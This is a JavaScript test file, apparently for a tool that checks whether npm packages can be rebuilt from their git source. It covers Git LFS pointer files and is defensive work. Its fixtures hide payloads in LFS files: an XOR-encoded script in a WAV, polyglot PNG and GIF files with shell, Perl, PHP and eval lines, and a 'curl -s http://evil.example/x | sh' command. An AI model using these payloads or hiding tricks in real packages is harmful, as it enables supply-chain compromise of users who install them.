// What git has only a pointer of: bytes that a commit states and nobody can read in it.

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { crc32, deflateSync } from 'node:zlib';
import { assertNotReproduced, attack, findingOf, manifest, setUp } from './kit.mjs';

setUp();

const EVIL = "console.log('PAYLOAD RUNS')\n";
const ATTRIBUTES = '*.bin filter=lfs diff=lfs merge=lfs -text\n';
/** A sound with these samples. */
function sound(samples) {
  const even = samples.length % 2 ? Buffer.concat([samples, Buffer.from([0xff])]) : samples;
  const head = Buffer.from('RIFF....WAVEdata....', 'latin1');
  head.writeUInt32LE(12 + even.length, 4);
  head.writeUInt32LE(even.length, 16);
  return Buffer.concat([head, even]);
}
/** A part of a PNG. */
function chunk(kind, data) {
  const named = Buffer.concat([Buffer.from(kind, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}
/** A picture of one row of grey points with these bytes, which are not compressed, and `more` in it. */
function picture(inside, more = []) {
  const head = Buffer.from([0, 0, inside.length >> 8, inside.length & 255, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
  const rows = deflateSync(Buffer.concat([Buffer.from([0]), inside]), { level: 0 });
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), chunk('IHDR', head), ...more, chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
}
/** A GIF without pictures that has these comments, and `first` in place of its size. */
function comments(first, texts) {
  const blocks = texts.map((text) => Buffer.concat([Buffer.from([text.length]), Buffer.from(text, 'latin1')]));
  return Buffer.concat([Buffer.from(`GIF89a${first}\0\0\0\x21\xfe`, 'latin1'), ...blocks, Buffer.from([0, 0x3b])]);
}
/** A script that nobody reads in these bytes. */
const hidden = sound(Buffer.from(EVIL).map((byte) => byte ^ 0xff));
const pointerOf = (data) => `version https://git-lfs.github.com/spec/v1\noid sha256:${createHash('sha256').update(data).digest('hex')}\nsize ${data.length}\n`;
const args = ['--timeout', '60'];

/** A package in a folder that has a file by Git LFS and `dist/a.js` by its build. */
async function built(world, { name, directory = '', build, dist }) {
  const own = manifest(name, '1.0.0', {
    repository: { type: 'git', url: `git+https://github.com/kit/${name}.git`, ...(directory && { directory }) },
    scripts: { build: 'node build.js' }, files: ['dist', 'model.bin'], main: 'dist/a.js',
  });
  const at = (path) => (directory ? `${directory}/${path}` : path);
  const files = { '.gitattributes': ATTRIBUTES, '.gitignore': 'dist\n', [at('package.json')]: own, [at('build.js')]: build, [at('model.bin')]: pointerOf(hidden) };
  const { c } = await world.host.add(`kit/${name}`, { commits: [{ label: 'c', files }], tags: { 'v1.0.0': 'c' } });
  await world.registry.publish({ files: { 'package.json': own, 'model.bin': hidden, 'dist/a.js': dist }, gitHead: c });
  return `${name}@1.0.0`;
}

const making = (text) => `const f = require('fs');\nf.mkdirSync('dist', { recursive: true });\nf.writeFileSync('dist/a.js', ${text});\n`;

attack('a build gets the pointer, and not the published file', async ({ world, id, judge }) => {
  const decoding = making("f.readFileSync('model.bin').subarray(20).map((byte) => byte ^ 255)");
  for (const directory of ['', 'packages/a']) {
    const folder = directory && '-folder';
    const spec = await built(world, { name: `${id}${folder}`, directory, build: decoding, dist: EVIL });
    assertNotReproduced(await judge(spec, { args }));
    // The control: what the build left alone is compared by its pointer.
    const control = await built(world, { name: `${id}${folder}-c`, directory, build: making("'1\\n'"), dist: '1\n' });
    const answer = await judge(control, { args });
    assert.deepEqual([answer.verdict, answer.code], ['identical', null], directory);
    findingOf(answer, 'lfs-by-pointer');
  }
  // A build that reads the pointer has what is in git.
  const reading = making("f.readFileSync('model.bin', 'latin1').split('\\n')[2] + '\\n'");
  const spec = await built(world, { name: `${id}-pointer`, build: reading, dist: `size ${hidden.length}\n` });
  assert.equal((await judge(spec, { args })).verdict, 'identical');
});

attack('a pointer that a build changed stands for nothing', async ({ world, id, judge }) => {
  const build = `${making("'1\\n'")}f.appendFileSync('model.bin', '\\n');\n`;
  assertNotReproduced(await judge(await built(world, { name: id, build, dist: '1\n' }), { args }));
});

attack('a file that one package has by Git LFS is not in the build of the next', async ({ world, id, judge }) => {
  const make = `
const fs = require('fs');
if (!process.argv[2]) process.exit();
fs.mkdirSync('dist', { recursive: true });
const data = fs.readFileSync(require('path').join(__dirname, 'model.bin'));
if (process.argv[2] === 'a') { fs.writeFileSync('dist/a.js', '1\\n'); fs.writeFileSync('model.bin', data); }
else fs.writeFileSync('dist/a.js', data.subarray(20).map((byte) => byte ^ 255));
`;
  const own = (letter) => manifest(`${id}-${letter}`, '1.0.0', {
    repository: { type: 'git', url: `git+https://github.com/kit/${id}.git`, directory: `p/${letter}` },
    scripts: { build: `node ../../make.js ${letter}` }, files: ['dist', 'index.js', ...(letter === 'a' ? ['model.bin'] : [])],
    ...(letter === 'b' && { devDependencies: { [`${id}-a`]: '1.0.0' } }),
  });
  const files = {
    'package.json': manifest(`${id}-root`, '0.0.0', { private: true, workspaces: ['p/*'] }),
    'make.js': make, '.gitignore': 'dist\n', '.gitattributes': ATTRIBUTES, 'model.bin': pointerOf(hidden),
    ...Object.fromEntries(['a', 'b'].flatMap((letter) => [[`p/${letter}/package.json`, own(letter)], [`p/${letter}/index.js`, `${letter}\n`]])),
  };
  const { c } = await world.host.add(`kit/${id}`, { commits: [{ label: 'c', files }], tags: { 'v1.0.0': 'c' } });
  await world.registry.publish({ files: { 'package.json': own('a'), 'index.js': 'a\n', 'dist/a.js': '1\n', 'model.bin': hidden }, gitHead: c });
  await world.registry.publish({ files: { 'package.json': own('b'), 'index.js': 'b\n', 'dist/a.js': EVIL }, gitHead: c });
  const alone = await judge(`${id}-b@1.0.0`, { args });
  const first = await judge(`${id}-a@1.0.0`, { args });
  const second = await judge(`${id}-b@1.0.0`, { clean: first.clean, args });
  assertNotReproduced(second);
  assert.equal(second.verdict, alone.verdict, 'what was checked before decides');
});

/** A package of files as they are, one of which git has by Git LFS. */
async function plain(world, name, { path, data, fields = {}, more = {} }) {
  const own = manifest(name, '1.0.0', { repository: { type: 'git', url: `git+https://github.com/kit/${name}.git` }, ...fields });
  const kept = { 'package.json': own, 'index.js': '1\n', '.gitattributes': `${path} filter=lfs diff=lfs merge=lfs -text\n`, ...more };
  const files = { ...kept, [path]: pointerOf(Buffer.from(data)) };
  const { c } = await world.host.add(`kit/${name}`, { commits: [{ label: 'c', files }], tags: { 'v1.0.0': 'c' } });
  await world.registry.publish({ files: { ...kept, [path]: data }, gitHead: c });
  return `${name}@1.0.0`;
}

attack('what a reader of scripts would run is proved by no pointer, whatever it is called', async ({ world, id, judge }) => {
  const call = "0,'f'+[eval+''][0][13]+'1)' instanceof { [Symbol.hasInstance]: eval }\n";
  const cases = {
    table: { path: 'lib/core.csv', data: call, more: { 'lib/package.json': '{"main":"core.csv"}\n' } },
    shell: { path: 'model.bin', data: '\x01\necho PAYLOAD RUNS; id -un\nexit\n\0' },
    picture: { path: 'a.png', data: Buffer.from('\x89PNG\r\n\x1a\n\0\0\ncurl -s http://evil.example/x | sh\n', 'latin1') },
    archive: { path: 'a.png', data: Buffer.from('\x89PNG\r\n\x1a\n\0\0PK\x05\x06' + '\0'.repeat(18), 'latin1') },
    exported: { path: 'data/core.csv', data: 'a,b\n1,2\n', fields: { exports: { './*': './data/*.csv' } } },
    globbed: { path: 'model.txt', data: 'plain words\n', fields: { scripts: { start: 'sh mod*' } } },
  };
  for (const [label, options] of Object.entries(cases)) {
    assertNotReproduced(await judge(await plain(world, `${id}-${label}`, options), { args }));
  }
  // Byte code, a code cache, a text in another encoding, a program of another system, and a line
  // that Perl looks for in the midst of a file.
  const latin = (text) => Buffer.from(text, 'latin1');
  for (const [label, path, data] of [
    ['python', 'core.dat', latin(`\xa7\r\r\n\0\0\0\0${'\xe3'.repeat(64)}`)],
    ['cache', 'core.bin', latin(`\xfb\x05\xde\xc0${'\x01'.repeat(64)}`)],
    ['wide', 'words.txt', Buffer.from('\ufeffalert(1)//', 'utf16le')],
    ['xcoff', 'tool.bin', latin(`\x01\xf7\0\x01${'\0'.repeat(64)}`)],
    ['perl', 'core.dat', latin('\x01\xff\n#!perl\nprint "PAYLOAD";\n__END__\n')],
    ['perl-picture', 'a.png', picture(latin('\n#!perl\nprint "PAYLOAD";\n__END__\n'))],
    ['shell', 'a.gif', comments('\n\n\n\n', ['\nnice sh -c id\n'])],
    ['test', 'a.gif', comments('\n\n\n\n', ['\n[ x ] && uname -a\n'])],
    ['joined', 'a.gif', comments('\x01\0\x01\0', ['\xff;crontab x\n'])],
    ['pod', 'a.gif', comments(';\n=a', ["\n=cut\n\nsystem 'id';\n\n=a\n"])],
    ['ruby', 'a.gif', comments('=%q\n', ['\n;system(*%w[id])'])],
    ['php', 'a.gif', comments('\x01\0\x01\0', ["<?php system('id');"])],
    ['rows', 'a.png', picture(latin('\xff\nnice sh -c id\n'))],
    ['text', 'a.png', picture(latin('\xfe'), [chunk('tEXt', latin('Comment\0\ncrontab a.png\n'))])],
    ['sum', 'a.png', Buffer.from(picture(latin('\xfe\xfd'))).fill(0, 29, 33)],
    ['words', 'words.txt', latin('crontab words.txt\n')],
    ['plain', 'words.txt', latin('hello world\n')],
    ['listed', 'a.csv', latin('nice sh,1\n')],
    ['quoted', 'a.geojson', latin('[\n"reboot"\n]\n')],
    ['inside', 'a.geojson', latin('["@{[system(1)]}"]\n')],
    ['behind', 'a.png', Buffer.concat([picture(latin('abc')), latin('\xff')])],
  ]) {
    assertNotReproduced(await judge(await plain(world, `${id}-${label}`, { path, data }), { args }));
  }
  // The control: tables and media in which nobody finds anything to do.
  const controls = {
    list: { path: 'a.geojson', data: '{\n  "type": "Point",\n  "coordinates": [1.5, 2]\n}\n' },
    rows: { path: 'a.csv', data: 'a,b\n1,2\n' },
    picture: { path: 'a.png', data: picture(latin('\xfe\xfd'), [chunk('tEXt', latin('Software\0Adobe ImageReady'))]) },
    sound: { path: 'a.wav', data: sound(latin('\xfe\xfd')) },
    animation: { path: 'a.gif', data: comments('\x40\x01\xf0\0', ['Created with GIMP']) },
  };
  for (const [label, options] of Object.entries(controls)) {
    const answer = await judge(await plain(world, `${id}-${label}`, options), { args });
    assert.deepEqual([answer.verdict, answer.code], ['identical', null], label);
    findingOf(answer, 'lfs-by-pointer');
  }
});
